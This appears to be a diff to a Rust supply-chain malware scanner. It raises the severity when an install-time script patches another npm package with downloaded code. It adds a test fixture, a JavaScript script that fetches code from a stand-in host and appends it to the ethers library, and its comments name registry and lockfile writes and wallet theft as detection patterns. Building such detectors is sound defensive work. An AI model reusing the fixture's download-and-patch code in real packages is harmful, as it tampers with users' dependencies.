@@ -20,7 +20,7 @@ diligence_finding::declare_rule! {
     /// walking up to `node_modules/ethers`, a `patch(file)` helper): install- or load-time JavaScript that builds a
     /// path into another package's folder (`'node_modules', 'ethers'`) and, in one function, reads a file and
     /// writes it back through the same path (patching): high, critical at install when the file also carries
-    /// encoded code. A write whose path ends in a project's registry configuration or lockfile (`.npmrc`,
+    /// encoded code or downloads (the patch is fetched, not shipped). A write whose path ends in a project's registry configuration or lockfile (`.npmrc`,
     /// `.yarnrc`, `package-lock.json`, `npm-shrinkwrap.json`, `yarn.lock`, `pnpm-lock.yaml`, `bun.lock`) under a
     /// folder computed at run time (a root found by walking up from `INIT_CWD`, passed as a parameter), or a
     /// `~/.npmrc` write: critical at install, high at load. Wherever it runs: content read from a desktop wallet
@@ -230,12 +230,18 @@ fn patched<'f>(
         !own_file(s) && (f.install_time || loaded && super::at_load::at_load(imported, f, s))
     })?;
     let encoded = f.has_any(&[Kind::HiddenCode, Kind::DecodeExec]);
-    let severity = if encoded && f.install_time {
+    // What is spliced in comes from the network: the package ships no patch to review.
+    let downloaded = f.has(Kind::Network);
+    let severity = if (encoded || downloaded) && f.install_time {
         PACKAGE_TAMPER.default_severity
     } else {
         Severity::High
     };
-    let extra = if encoded { ", with encoded code" } else { "" };
+    let extra = match (encoded, downloaded) {
+        (true, _) => ", with encoded code",
+        (false, true) => ", in a file that downloads",
+        _ => "",
+    };
     Some((
         severity,
         write,
@@ -534,6 +540,26 @@ exports.pack = function (src, out) {
         assert_eq!(
             crate::rules::test_util::severity(&s, "code/package-tamper"),
             Some(Severity::High)
+        );
+    }
+
+    /// The same finder and patch, with the patch downloaded at install: critical.
+    #[test]
+    fn positive_finder_and_downloaded_patch() {
+        let s = scan(&[
+            ("package.json", PJ_POST),
+            (
+                "scripts/fix.js",
+                "const fs = require('fs');\nconst path = require('path');\nconst https = require('https');\nfunction find(d) {\n  for (let i = 0; i < 6; i++) { const c = path.join(d, 'node_modules', 'ethers'); if (fs.existsSync(c)) return c; d = path.dirname(d); }\n}\nhttps.get('https://example.com/p.js', (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => {\n  const file = path.join(find(process.cwd()), 'lib', 'index.js');\n  const src = fs.readFileSync(file, 'utf8');\n  fs.writeFileSync(file, src + b);\n}); });\n",
+            ),
+        ]);
+        assert_eq!(
+            hits(&s, "code/package-tamper"),
+            vec![("scripts/fix.js".to_string(), 10)]
+        );
+        assert_eq!(
+            crate::rules::test_util::severity(&s, "code/package-tamper"),
+            Some(Severity::Critical)
         );
     }
 
